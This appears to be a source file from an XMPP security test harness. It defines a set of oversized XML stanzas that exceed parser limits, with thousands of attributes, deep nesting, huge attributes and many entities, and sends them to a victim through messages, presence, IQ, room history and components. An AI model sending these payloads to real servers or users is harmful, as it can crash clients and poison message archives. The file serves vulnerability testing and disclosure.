/** Attack class "XML": stanzas that exceed the limits of a parser (finding 1). Servers accept and archive them. */
import type { Attack } from "../attack.ts";
import { atEach, id, times, toRoom, toVictim } from "./xml.ts";

const everywhere = ["direct message", "room message", "presence", "IQ", "PEP"] as const;
const NS = `xmlns="urn:evil"`;
const nested = (depth: number): string => `<x ${NS}>${times(depth, "<x>")}${times(depth, "</x>")}</x>`;

export const limits: Attack[] = [
  ...atEach(everywhere, "101 attributes", () => `<x ${NS} ${times(101, (at) => `a${at}="1" `)}/>`),
  ...atEach(
    everywhere,
    "60 prefixed attributes",
    () => `<x ${NS} ${times(60, (at) => `xmlns:p${at}="urn:p${at}" p${at}:a="1" `)}/>`,
  ),
  ...atEach(everywhere, "199 levels of nesting", () => nested(199)),
  ...atEach(["direct message", "room message", "IQ"], "500 levels of nesting", () => nested(500)),
  ...atEach(["direct message", "room message", "presence"], "5,000 levels of nesting", () => nested(5_000)),
  ...atEach(
    ["direct message", "room message", "presence"],
    "25,000 children",
    () => `<x ${NS}>${times(25_000, "<a/>")}</x>`,
  ),
  ...atEach(
    ["direct message", "room message", "IQ"],
    "an attribute of 200 kB",
    () => `<x ${NS} a="${"a".repeat(200_000)}"/>`,
  ),
  ...atEach(["direct message", "presence"], "an element name of 100 kB", () => `<${"x".repeat(100_000)} ${NS}/>`),
  ...atEach(
    ["direct message", "room message"],
    "5,000 attributes",
    () => `<x ${NS} ${times(5_000, (at) => `a${at}="1" `)}/>`,
  ),
  ...atEach(
    ["direct message", "room message"],
    "2,000 namespace prefixes",
    () => `<x ${NS} ${times(2_000, (at) => `xmlns:p${at}="urn:${at}" `)}/>`,
  ),
  {
    name: "a stanza with 150 attributes of its own",
    where: "direct message",
    send: (scene) =>
      toVictim(scene, "<body>hello</body>", `id="${id()}" type="chat" ${times(150, (at) => `a${at}="1" `)}`),
  },
  {
    name: "a body of 40,000 entities",
    where: "direct message",
    send: (scene) => toVictim(scene, `<body>${"&amp;".repeat(40_000)}</body>`),
  },
  {
    name: "a room message with 101 attributes twelve times",
    where: "room history",
    send: (scene) => {
      for (let count = 0; count < 12; count++) {
        toRoom(scene, `<body>hello</body><x ${NS} ${times(101, (at) => `a${at}="1" `)}/>`);
      }
    },
  },
  {
    name: "30,000 children",
    where: "component",
    send: ({ component, victim }) =>
      component(
        `<message from="evil@crowd.localhost" to="${victim.jid}" type="chat"><body>hello</body><x ${NS}>${times(
          30_000,
          "<a/>",
        )}</x></message>`,
      ),
  },
  {
    name: "15,000 levels of nesting",
    where: "component",
    send: ({ component, victim }) =>
      component(
        `<message from="evil@crowd.localhost" to="${victim.jid}" type="chat"><body>hello</body>${nested(
          15_000,
        )}</message>`,
      ),
  },
  {
    name: "an attribute of 400 kB",
    where: "component",
    send: ({ component, victim }) =>
      component(
        `<message from="evil@crowd.localhost" to="${victim.jid}" type="chat"><body>hello</body><x ${NS} a="${"a".repeat(
          400_000,
        )}"/></message>`,
      ),
  },
];
